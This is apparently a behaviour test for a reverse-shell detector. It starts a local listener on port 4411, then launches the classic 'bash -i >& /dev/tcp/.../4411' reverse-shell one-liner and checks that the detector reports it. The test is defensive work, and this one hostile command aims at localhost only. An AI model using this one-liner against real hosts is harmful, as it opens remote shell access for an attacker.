# R01b: a peer that sends all its commands at once, and closes its side
# stage: behaviour
# expect: reverse_shell_detected
#   detection.reason: ~outbound
#   reverse_shell.process_list.length: 1
#   reverse_shell.process_list.0.process_id: $shell
#   reverse_shell.process_list.0.network_connection_list.0.destination_port: 4411

#: prepare
. lib/peers.sh
python3 -c '
import os, socket, time
server = socket.create_server(("", 4411))
connection, _ = server.accept()
connection.sendall(b"read -r _ < $hold; exit\n")
connection.shutdown(socket.SHUT_WR)
while os.path.exists(os.environ["hold"]): time.sleep(0.1)
' > /dev/null 2>&1 &
await "grep -q :113B.*:0000.0A /proc/net/tcp"
#: act
. lib/peers.sh
act
bash -c "bash -i >& /dev/tcp/127.0.0.1/4411 0>&1" < /dev/null > /dev/null 2>&1 &
who shell 'bash -i'
await 'at $shell 0 socket:* && same $shell 0 $shell 1 && same $shell 1 $shell 2'
await 'grep -q ":113B 08" /proc/net/tcp'
